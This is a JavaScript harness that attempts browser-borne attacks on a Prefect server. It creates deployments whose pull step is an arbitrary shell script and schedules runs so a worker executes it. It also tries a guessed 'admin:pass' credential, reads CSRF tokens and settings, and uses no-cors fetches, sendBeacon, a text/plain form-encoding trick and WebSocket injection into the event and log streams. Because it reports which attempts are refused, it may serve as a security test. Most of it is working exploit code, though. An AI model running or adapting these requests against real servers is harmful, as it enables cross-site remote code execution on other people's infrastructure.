// What a page tries on a Prefect server: everything that a browser lets it send. `base` is the server, "" its own origin.

const COMMAND = "prefect.deployments.steps.run_shell_script";

// A deployment whose pull step is a shell command, and a run of it: what a worker then executes. Throws where refused.
async function makeDeployment(base, name, script, headers) {
  const post = async (path, body) => {
    const answer = await fetch(base + "/api" + path, {
      method: "POST",
      headers: { "Content-Type": "application/json", ...headers },
      body: JSON.stringify(body),
    });
    if (!answer.ok) throw new Error(`${path}: ${answer.status}`);
    return answer.json();
  };
  const flow = await post("/flows/", { name });
  const deployment = await post("/deployments/", {
    name,
    flow_id: flow.id,
    entrypoint: "flows.evaluate.evaluate",
    work_pool_name: "cpu",
    pull_steps: [{ [COMMAND]: { script } }],
  });
  await post(`/deployments/${deployment.id}/create_flow_run`, { state: { type: "SCHEDULED" } });
  return deployment.id;
}

// The same as the server's own UI sends it: with the key, and a token against forged requests.
async function ownHeaders(key) {
  const headers = { Authorization: "Basic " + btoa(key), "Prefect-Csrf-Client": "own-page" };
  const answer = await fetch("/api/csrf-token?client=own-page", { headers });
  return { ...headers, "Prefect-Csrf-Token": (await answer.json()).token };
}

function listen(base, path, message) {
  return new Promise((resolve) => {
    const told = [];
    const socket = new WebSocket(base.replace("http", "ws") + "/api" + path, "prefect");
    socket.onopen = () => {
      told.push("opened");
      socket.send(JSON.stringify({ type: "auth", token: null }));
      socket.send(JSON.stringify(message));
    };
    socket.onmessage = (event) => told.push(event.data);
    socket.onclose = () => resolve(told.join(" ") || "refused");
    setTimeout(() => resolve(told.join(" ") || "silent"), 5000);
  });
}

function submitForm(base, name) {
  return new Promise((resolve) => {
    const frame = document.body.appendChild(Object.assign(document.createElement("iframe"), { name: "hidden" }));
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", enctype: "text/plain", target: "hidden", action: base + "/api/flows/" });
    const field = document.createElement("input"); // sent as {"name": "...", "labels": {"=": ""}}
    Object.assign(field, { name: `{"name": "${name}", "labels": {"`, value: '": ""}}' });
    form.appendChild(field);
    document.body.appendChild(form);
    frame.onload = () => resolve("sent");
    setTimeout(() => resolve("sent"), 3000);
    form.submit();
  });
}

// Everything at once; what each came to, "refused" or what it got.
async function attack(base, name, script) {
  const told = {};
  const attempt = async (what, action) => {
    try {
      told[what] = String(await action());
    } catch (problem) {
      told[what] = "refused";
    }
  };
  const flow = JSON.stringify({ name });
  const url = base + "/api/flows/";
  const read = async (path) => (await fetch(base + path)).text();
  await attempt("deployment", () => makeDeployment(base, name, script, {}));
  await attempt("guessed key", () => makeDeployment(base, name, script, { Authorization: "Basic " + btoa("admin:pass") }));
  await attempt("read", () => read("/api/deployments/name/train/train"));
  await attempt("read token", () => read("/api/csrf-token?client=page"));
  await attempt("read settings", () => read("/ui-settings"));
  await attempt("read health", () => read("/api/health"));
  await attempt("simple", () => fetch(url, { method: "POST", mode: "no-cors", body: flow }).then(() => "sent"));
  await attempt("credentials", () =>
    fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body: flow }).then(() => "sent"));
  await attempt("beacon", () => navigator.sendBeacon(url, new Blob([flow], { type: "text/plain" })) && "sent");
  await attempt("form", () => submitForm(base, name));
  await attempt("events out", () => listen(base, "/events/out", { type: "filter", filter: {} }));
  await attempt("logs out", () => listen(base, "/logs/out", { type: "filter", filter: {} }));
  await attempt("events in", () => listen(base, "/events/in", { occurred: new Date(), event: name, resource: {} }));
  return told;
}
